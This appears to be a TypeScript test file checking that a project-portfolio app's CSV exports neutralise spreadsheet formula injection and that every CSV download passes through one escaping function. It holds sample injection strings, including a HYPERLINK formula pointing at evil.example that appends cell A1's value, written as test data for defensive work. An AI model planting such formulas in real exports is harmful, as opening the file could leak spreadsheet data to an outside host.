import assert from "node:assert/strict";
import { readdirSync, readFileSync } from "node:fs";
import path from "node:path";
import { after, before, test } from "node:test";
import { fileURLToPath } from "node:url";
import { parse } from "csv-parse/sync";
import { eq } from "drizzle-orm";
import { createTestApp, Session, type TestApp } from "../../../test/support/app.ts";
import { projects } from "../../modules/projects/schema.ts";
import { readAdoptionCsv } from "../../modules/roadmap/adoption-import/import.ts";
import { csvCell, fromCsvCell } from "./csv.ts";

test("text a spreadsheet would run as a formula is marked as text; numbers stay numbers", () => {
  for (const formula of [
    '=HYPERLINK("https://evil.example","x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tx",
    "\r=1",
    "-5",
    "+47 51 00 00 00",
  ])
    assert.equal(csvCell(formula), `'${formula}`, JSON.stringify(formula));
  for (const plain of ["Stavanger", "2025-01-01", "1 200 000", " =not at the start", "a=b", "'already quoted", ""])
    assert.equal(csvCell(plain), plain);
  assert.equal(csvCell(-5), -5);
  assert.equal(csvCell(-12n), -12n);
  assert.equal(csvCell(null), "");
  assert.equal(csvCell(undefined), "");
  assert.equal(fromCsvCell("'=1+1"), "=1+1", "a file that comes back loses the mark");
  assert.equal(fromCsvCell("'ok"), "'ok", "an apostrophe of one's own stays");
});

test("every CSV file is written by sendCsv, so no download can skip the check", () => {
  const src = path.resolve(path.dirname(fileURLToPath(import.meta.url)), "../..");
  const offenders = readdirSync(src, { recursive: true, encoding: "utf8" })
    .filter(
      (f) =>
        /\.tsx?$/.test(f) && !f.endsWith(".test.ts") && path.join(src, f) !== fileURLToPath(new URL("./csv.ts", import.meta.url)),
    )
    .filter((f) =>
      /from "csv-stringify|type\(\s*["'`]text\/csv|["'`]content-type["'`],\s*["'`]text\/csv/.test(
        readFileSync(path.join(src, f), "utf8"),
      ),
    );
  assert.deepEqual(offenders, []);
});

test("a template with a marked comment reads back as it was written", () => {
  const read = readAdoptionCsv("kommunenummer,losning,status,dato,kommentar\n1103,krr,I bruk,,'- venter på budsjett\n");
  assert.ok("rows" in read);
  assert.equal(read.rows[0]!.cells.comment, "- venter på budsjett");
});

let t: TestApp;
before(async () => {
  t = await createTestApp();
});
after(() => t.close());

test("a project title written as a formula comes out of the portfolio's CSV as text, its budget as a number", async () => {
  const [project] = await t.database.db.select().from(projects).where(eq(projects.visibility, "public")).limit(1);
  const title = '=HYPERLINK("https://evil.example/?"&A1,"Klikk her")';
  await t.database.db
    .update(projects)
    .set({ title, budget: -5, tags: ["formula-test"] })
    .where(eq(projects.id, project!.id));
  const res = await new Session(t.app).get("/projects.csv?tag=formula-test");
  assert.equal(res.statusCode, 200);
  assert.match(String(res.headers["content-type"]), /^text\/csv/);
  const [header, ...rows] = parse(res.body, { bom: true }) as string[][];
  assert.equal(rows.length, 1);
  const cell = (name: string) => rows[0]![header!.indexOf(name)];
  assert.equal(cell("Tittel"), `'${title}`);
  assert.equal(cell("Budsjett"), "-5");
});
